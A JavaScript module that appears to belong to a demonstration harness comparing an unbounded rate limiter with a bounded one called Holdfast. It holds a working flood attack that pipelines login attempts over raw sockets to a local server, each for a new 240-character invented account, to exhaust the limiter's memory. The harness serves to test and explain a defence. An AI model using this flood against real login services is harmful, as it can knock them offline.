// @ts-check
'use strict';

const net = require('node:net');
const { count, megabytes } = require('../words.js');

const CONNECTIONS = 4;
const AT_ONCE = 32; // requests on a connection that are not answered yet
const ACCOUNT_LENGTH = 240; // an e-mail address can have 254 characters
const HOST = '@example.com';

/** @type {import('../attacks.js').Attack} */
module.exports = {
  id: 'flood',
  name: 'Flood',
  claim: 'A limiter that remembers every invented name',
  sends: `Attempts to log in, as fast as ${CONNECTIONS} connections take them, each for another account of `
    + `${ACCOUNT_LENGTH} characters that nobody has.`,
  sample: `POST /attempts  ${account(1).slice(0, 28)}…@example.com`,
  ordinary: 'A sliding window in a Map, as most guides to rate limiting begin. It counts exactly. Who has tried once '
    + 'is remembered for good, with the name, so that the attacker decides how large it becomes.',
  holdfast: 'A table for at most 50,000 keys of some 22 bytes, however long the names are. When it is full, the keys '
    + 'that recover first make room.',
  watch: 'Memory. The curve also has what has not been collected yet; the table has what is kept.',

  async send({ port, isOver, tally }) {
    tally.names = 0;
    await Promise.all(Array.from({ length: CONNECTIONS }, () => flood(port, isOver, tally)));
  },

  results: ({ tally, keptBytes }) => [
    ['Memory kept, for each name that was tried', keptBytes === null || !tally.accepted ? 'not known'
      : `${Math.max(0, Math.round(keptBytes / tally.accepted))} bytes`],
  ],

  verdict(ordinary, holdfast) {
    return `The ordinary limiter ${says(ordinary)}, and nothing bounds it; Holdfast’s ${says(holdfast)}, and never `
      + 'keeps more than 50,000 of them.';
  },
};

/** @param {import('../figures.js').Figures} figures */
function says({ tally, keptBytes, end }) {
  const kept = keptBytes === null ? 'what nobody can tell any more' : megabytes(Math.max(0, keptBytes));
  return `kept ${kept} for ${count(tally.accepted, 'name')}${end.state === 'dead' ? ' and died of it' : ''}`;
}

/**
 * Writes requests without waiting for each answer (RFC 9112 section 9.3.2), so that the server is what limits the rate.
 * @param {number} port
 * @param {() => boolean} isOver
 * @param {import('../attacker.js').Tally} tally
 * @returns {Promise<void>} when it is over, or the connection is
 */
function flood(port, isOver, tally) {
  return new Promise((resolve) => {
    const socket = net.connect(port, '127.0.0.1', batch);
    let rest = '';
    let due = 0;
    socket.setEncoding('latin1');
    socket.on('data', (chunk) => {
      const lines = (rest + chunk).split('\r\n');
      rest = /** @type {string} */ (lines.pop());
      for (const line of lines) {
        if (!line.startsWith('HTTP/1.1 ')) continue;
        due--;
        if (line.startsWith('HTTP/1.1 2')) tally.accepted++;
        else if (line.startsWith('HTTP/1.1 4')) tally.refused++;
        else tally.failed++;
      }
      if (due > 0) return;
      if (isOver()) socket.destroy();
      else batch();
    });
    socket.on('error', () => (tally.failed += due));
    socket.on('close', () => resolve());

    function batch() {
      let text = '';
      for (; due < AT_ONCE; due++) {
        const name = account(tally.names++);
        text += `POST /attempts HTTP/1.1\r\nHost: victim\r\nContent-Length: ${name.length}\r\n\r\n${name}`;
      }
      tally.sent += AT_ONCE;
      socket.write(text);
    }
  });
}

/** @param {number} number */
function account(number) {
  const start = `nobody.${number.toString(36).padStart(6, '0')}.`;
  return `${start.padEnd(ACCOUNT_LENGTH - HOST.length, 'x')}${HOST}`;
}
